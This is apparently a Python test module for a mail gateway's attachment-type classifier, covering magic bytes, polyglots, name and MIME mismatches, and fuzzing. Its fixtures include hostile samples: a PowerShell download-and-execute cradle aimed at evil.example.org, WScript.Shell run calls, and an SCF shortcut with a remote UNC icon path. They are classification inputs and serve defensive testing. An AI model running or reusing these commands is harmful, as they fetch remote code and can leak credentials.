"""smtpgate.examine.kinds: what a file is by its octets, its name and its label, in this order."""

from __future__ import annotations

import importlib.util
import marshal
import struct
import sys
import zipfile
from unittest.mock import patch

from hypothesis import given, settings
from hypothesis import strategies as st
from twisted.trial.unittest import SynchronousTestCase

from smtpgate.examine import kinds
from smtpgate.examine.facts import FLAGS, KINDS
from smtpgate.examine.kinds import DANGER, kind_of, kind_of_name
from tests.files_kit import PROGRAM, compound, docx, packed, pdf, rar5

PNG = b"\x89PNG\r\n\x1a\n" + bytes(60)
JAR = packed({"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe\0\0\0\x34"})
NOISE = bytes(range(256)) * 8

#: (octets, kind, detail) that no name is needed for.
MARKS = (
    (PROGRAM, "executable", "PE"),
    (PROGRAM[:40], "executable", "PE"),
    (b"MZ", "executable", "PE"),
    (b"MZ\x90\0" + bytes(56) + struct.pack("<I", 8) + bytes(40), "executable", "DOS"),
    (b"\x7fELF\2\1\1", "executable", "ELF"),
    (b"\xcf\xfa\xed\xfe" + bytes(20), "executable", "Mach-O"),
    (b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(9), "executable", "Java class"),
    (b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(9), "executable", "Mach-O"),
    (compound({"x": b""}, bytes.fromhex("84100c0000000000c000000000000046")), "executable", "msi"),
    (JAR, "executable", "jar"),
    (packed({"AndroidManifest.xml": b"\3\0", "classes.dex": b"dex\n035"}), "executable", "apk"),
    (b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(40), "shortcut", "lnk"),
    (b"[InternetShortcut]\r\nURL=http://evil.example.org/\r\n", "shortcut", "url"),
    (b"# comment\n[Desktop Entry]\nExec=sh\n", "shortcut", "desktop"),
    (b"[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\x\\y.ico\r\n", "shortcut", "scf"),
    (b'<?xml version="1.0"?><libraryDescription xmlns="x"/>', "shortcut", "library-ms"),
    (b'<?xml version="1.0"?><PCSettings><SearchableContent/></PCSettings>', "shortcut", "settingcontent-ms"),
    (b"screen mode id:i:2\r\nfull address:s:192.0.2.1\r\n", "shortcut", "rdp"),
    (bytes(32769) + b"CD001" + bytes(3000), "disk-image", "iso"),
    (bytes(32769) + b"BEA01" + bytes(2043) + b"NSR02" + bytes(99), "disk-image", "udf"),
    (b"vhdxfile" + bytes(60), "disk-image", "vhdx"),
    (bytes(1024) + b"conectix" + bytes(504), "disk-image", "vhd"),
    (bytes(1024) + b"koly\0\0\0\4" + bytes(504), "disk-image", "dmg"),
    (bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(50), "onenote", "one"),
    (b"ITSF\3\0\0\0", "help", "chm"),
    (b"{\\rtf1 hello}", "office-legacy", "rtf"),
    (compound({"WordDocument": b"x"}), "office-legacy", "doc"),
    (compound({"Workbook": b"x"}), "office-legacy", "xls"),
    (compound({"EncryptedPackage": b"x"}), "office-legacy", "ooxml-encrypted"),
    (compound({"__properties_version1.0": b"x"}), "message", "msg"),
    (b"ID;PWXL;N;E\r\n", "office-legacy", "slk"),
    (b"WEB\r\n1\r\nhttp://evil.example.org/\r\n", "script", "iqy"),
    (docx(), "office", "docx"),
    (docx(macro_enabled=True), "office", "docm"),
    (packed({"mimetype": b"application/vnd.oasis.opendocument.text"}, zipfile.ZIP_STORED), "office", "odt"),
    (packed({"mimetype": b"application/epub+zip"}, zipfile.ZIP_STORED), "office", "epub"),
    (packed({"a.txt": b"a"}), "archive", "zip"),
    (packed({"a.txt": b"a" * 99})[:50], "archive", "zip"),
    (rar5("a", b"a"), "archive", "rar"),
    (b"7z\xbc\xaf'\x1c" + bytes(30), "archive", "7z"),
    (bytes(257) + b"ustar" + bytes(250), "archive", "tar"),
    (b"\x78\x9f\x3e\x22\1\0", "tnef", "winmail"),
    (pdf(), "pdf", "pdf"),
    (b"\n" * 900 + b"%PDF-1.4\n", "pdf", "pdf-late"),
    (b"<!-- x --><!DOCTYPE html><body>", "html", "html"),
    ("<html>x</html>".encode("utf-16"), "html", "html"),
    ("<html>x</html>".encode("utf-16-le"), "html", "html"),
    (b'<?xml version="1.0"?>\n<svg xmlns="x"><script/></svg>', "svg", "svg"),
    (b'<?xml version="1.0"?><job><script language="JScript">x</script></job>', "script", "wsf"),
    (b'<?xml version="1.0"?><MMC_ConsoleFile/>', "script", "msc"),
    (b"<html><hta:application id=x></html>", "script", "hta"),
    (b'<?xml version="1.0"?><note><to>x</to></note>', "xml", "xml"),
    (b'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");', "script", "js"),
    (b'Set s = CreateObject("WScript.Shell")\r\nDim x\r\ns.Run x\r\n', "script", "vbs"),
    (b"IEX (New-Object Net.WebClient).DownloadString('http://evil.example.org/')", "script", "powershell"),
    (b"@echo off\r\nstart x\r\n", "script", "batch"),
    (b"#!/usr/bin/env python3\nprint()\n", "script", "python"),
    (b"#!/bin/sh\nexit\n", "script", "shell"),
    ("Windows Registry Editor Version 5.00\r\n".encode("utf-16"), "script", "reg"),
    (b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "calendar", "ics"),
    (b"BEGIN:VCARD\r\nEND:VCARD\r\n", "contact", "vcf"),
    (b"From: a@example.org\r\nSubject: x\r\n\r\nhi\r\n", "message", "eml"),
    (b"-----BEGIN CERTIFICATE-----\n", "certificate", "pem"),
    (PNG, "image", "png"),
    (b"RIFF\0\0\0\0WEBPVP8 ", "image", "webp"),
    (b"hello, this is text\n", "text", "text"),
    ("Grüße aus Köln\n".encode("latin-1"), "text", "text"),
    (b"", "empty", ""),
)


class ContentTests(SynchronousTestCase):
    """By the octets alone."""

    def test_python_and_texts_that_begin_like_it(self) -> None:
        """A compiled file is a program; a text that begins with an empty line is none."""
        compiled = importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile("a = 1", "x", "exec"))
        self.assertEqual(kind_of(compiled).detail, "pyc")
        old = b"\x03\xf3\r\n" + b"\x10\x20\x30\x40c\0\0\0\0"
        self.assertEqual(kind_of(old + bytes(20)).detail, "pyc")
        for text in (
            b"\r\n\r\nHello, this is a text.\r\n",
            b"a\r\r\nHello, and more of it.\r\r\n",
            b"\n\n\r\n" + b"x" * 40,
        ):
            self.assertEqual(kind_of(text).kind, "text", text)

    def test_each_mark_is_known(self) -> None:
        """Without a name, and under a name that says something else."""
        for content, kind, detail in MARKS:
            found = kind_of(content)
            self.assertEqual((found.kind, found.detail), (kind, detail), content[:40])
            if kind not in ("text", "empty"):
                found = kind_of(content, ["photo.bmp"], "image/bmp")
                self.assertEqual(found.kind, kind, content[:40])

    def test_without_libmagic(self) -> None:
        """The table alone knows all of these; what it does not know is unknown."""
        kinds._magic.cache_clear()
        self.addCleanup(kinds._magic.cache_clear)
        self.enterContext(patch.dict(sys.modules, {"magic": None}))
        for content, kind, detail in MARKS:
            found = kind_of(content)
            self.assertEqual((found.kind, found.detail), (kind, detail), content[:40])
        self.assertEqual(kind_of(NOISE).kind, "unknown")

    def test_libmagic_is_asked_last(self) -> None:
        """It knows formats that nobody runs; where the name promises worse it is not believed."""
        if kinds._magic() is None:
            return
        self.assertEqual(kind_of(b"FORM\0\0\0\x40AIFFCOMM" + bytes(64)).kind, "audio")
        self.assertEqual(kind_of(NOISE, ["a.exe"]).kind, "executable")

    def test_a_language_has_one_name(self) -> None:
        """By its first line, by its ending, and where the content cannot be had."""
        for name, detail in (("a.py", "python"), ("a.pl", "perl"), ("a.sh", "shell"), ("a.rb", "ruby"), ("a.js", "js")):
            self.assertEqual(kind_of(b"x = 1\n", [name]).all[0], ("script", detail))
            self.assertEqual(kind_of_name([name]).all[0], ("script", detail))

    def test_prose_about_commands_is_text(self) -> None:
        """A manual in a file that opens in an editor is no script, unless it begins like one."""
        manual = b"Type\r\n  powershell -EncodedCommand x\r\nand then invoke-expression with cmd /c dir.\r\n"
        self.assertEqual(kind_of(manual, ["manual.txt"]).kind, "text")
        self.assertEqual(kind_of(manual, ["manual"]).kind, "script")
        self.assertEqual(kind_of(b"@echo off\r\n" + manual, ["manual.txt"]).kind, "script")


class PolyglotTests(SynchronousTestCase):
    """Files that are two things."""

    def test_the_most_dangerous_kind_wins_and_all_are_told(self) -> None:
        """Each kind is there to be looked at."""
        for content, kind, other in (
            (pdf() + packed({"a": b"b"}), "archive", "pdf"),
            (b"GIF89a" + bytes(60) + JAR, "executable", "image"),
            (PNG + packed({"a.js": b"x"}), "archive", "image"),
            (b"\xff\xd8\xff\xe0" + bytes(100) + pdf(), "pdf", "image"),
        ):
            found = kind_of(content)
            self.assertEqual((found.kind, [one for one, _ in found.also]), (kind, [other]), content[:20])
            self.assertIn("polyglot", found.flags)

    def test_what_holds_another_file_is_no_polyglot(self) -> None:
        """A stored PDF at the beginning of an archive, an archive inside a document, a program that unpacks itself."""
        for content in (
            packed({"a.pdf": pdf()}, zipfile.ZIP_STORED),
            packed({"a.zip": packed({"b": b"c"})}, zipfile.ZIP_STORED),
            compound({"x": packed({"b": b"c"})}),
            PROGRAM + packed({"b": b"c"}),
        ):
            self.assertNotIn("polyglot", kind_of(content).flags, content[:20])


class NameTests(SynchronousTestCase):
    """Where the name has a say."""

    def test_what_runs_by_its_name(self) -> None:
        """Script hosts read any octets; a text becomes what its ending says."""
        for content, name, kind in (
            (NOISE, "x.hta", "script"),
            (PNG, "x.html", "html"),
            (b"print(1)", "x.py", "script"),
            (b"harmless", "x.js", "script"),
            (b"harmless", "x.csv", "text"),
            (b"X5O!P%@AP...", "x.com", "executable"),
            (b"harmless", "x.exe", "text"),
            (NOISE, "x.exe", "executable"),
            (NOISE, "x.zip", "archive"),
            (packed({"META-INF/MANIFEST.MF": b"x"}), "x.jar", "executable"),
        ):
            self.assertEqual(kind_of(content, [name]).kind, kind, name)

    def test_the_name_alone(self) -> None:
        """For members that cannot be read; the worst of several names counts."""
        self.assertEqual(kind_of_name(["a.pdf", "b.exe"]).kind, "executable")
        self.assertEqual(kind_of_name(["a.pdf"]).kind, "pdf")
        self.assertEqual(kind_of_name(["a"]).kind, "unknown")
        self.assertEqual(kind_of_name([]).kind, "unknown")


class MismatchTests(SynchronousTestCase):
    """`type-mismatch` is said where neither name nor label tells the truth."""

    def test_lies(self) -> None:
        """A program as a picture, a page as a text, text as a program."""
        for content, name, claimed in (
            (PROGRAM, "a.pdf", "application/pdf"),
            (PROGRAM, "a.jpg", "image/jpeg"),
            (b"<html><body>", "a.pdf", "application/pdf"),
            (b"harmless", "a.exe", "application/octet-stream"),
            (PROGRAM, "", "image/png"),
        ):
            self.assertIn("type-mismatch", kind_of(content, [name] if name else [], claimed).flags, name)

    def test_honest_and_careless_senders(self) -> None:
        """Regression B-73: unknown labels, other pictures, old endings and generic labels are no lies."""
        for content, name, claimed in (
            (b"a;b\n1;2\n", "orders.csv", "text/csv"),
            (b"a;b\n1;2\n", "orders.csv", "application/vnd.ms-excel"),
            (PNG, "a.jpg", "image/jpeg"),
            (docx(), "a.doc", "application/msword"),
            (b"{\\rtf1 x}", "a.doc", "application/msword"),
            (pdf(), "scan", "application/octet-stream"),
            (pdf(), "a.pdf", "text/plain"),
            (b'<?xml version="1.0"?><x/>', "a.txt", "text/plain"),
            (b"-----BEGIN PGP SIGNATURE-----", "signature.asc", "application/pgp-signature"),
            (packed({"a": b"b"}), "a.rar", "application/x-rar"),
            (NOISE, "a.bin", "application/octet-stream"),
            (b"", "a.exe", ""),
            (JAR, "a.jar", "application/zip"),
        ):
            self.assertEqual(kind_of(content, [name], claimed).flags, frozenset(), name)


class AnyContentTests(SynchronousTestCase):
    """Whatever comes."""

    def test_the_order_of_danger_has_all_kinds(self) -> None:
        """A kind that is added must be ranked."""
        self.assertEqual((set(DANGER), len(DANGER)), (set(KINDS), len(KINDS)))

    @settings(max_examples=300, deadline=None)
    @given(
        st.lists(
            st.one_of(
                st.binary(max_size=30), st.sampled_from([content[:90] for content, _, _ in MARKS]), st.just(bytes(600))
            ),
            max_size=6,
        ).map(b"".join),
        st.sampled_from(["", "a.exe", "a.zip", "a.html", "a.com", "a.pdf"]),
    )
    def test_nothing_raises(self, content: bytes, name: str) -> None:
        """Only kinds and flags that exist come out."""
        found = kind_of(content, [name], "text/plain")
        self.assertIn(found.kind, KINDS)
        self.assertTrue({kind for kind, _ in found.also} <= KINDS)
        self.assertTrue(found.flags <= FLAGS.keys())

    def test_text_that_invites_slow_patterns(self) -> None:
        """Comments, cells and fields without end are passed once."""
        for content in (
            b"<!-- " * 13_000,
            b"<!---->" * 9_000,
            b"=" * 65_000 + b"|'",
            b"a:" * 30_000,
            b"<" * 65_000,
            b"PK\3\4" * 16_000,
            b"PK\5\6" * 16_000,
            b"PK\1\2" * 16_000 + b"PK\5\6" + bytes(18),
        ):
            self.assertIn(kind_of(content).kind, KINDS)
